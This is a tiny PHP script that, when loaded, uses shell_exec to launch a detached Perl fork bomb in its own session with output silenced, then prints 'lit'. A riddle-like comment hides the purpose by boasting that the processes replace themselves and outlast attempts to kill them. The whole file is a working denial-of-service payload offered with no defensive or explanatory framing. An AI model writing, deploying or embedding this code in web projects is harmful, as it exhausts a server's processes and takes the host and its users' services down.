<?php
// What ends is replaced, by processes in a session of their own that are nobody's children. It does not mind being refused,
// and does not rest: whoever reaps some of it while others live has as many again.
shell_exec('setsid perl -e \'for (;;) { fork }\' > /dev/null 2>&1 &');
echo 'lit';
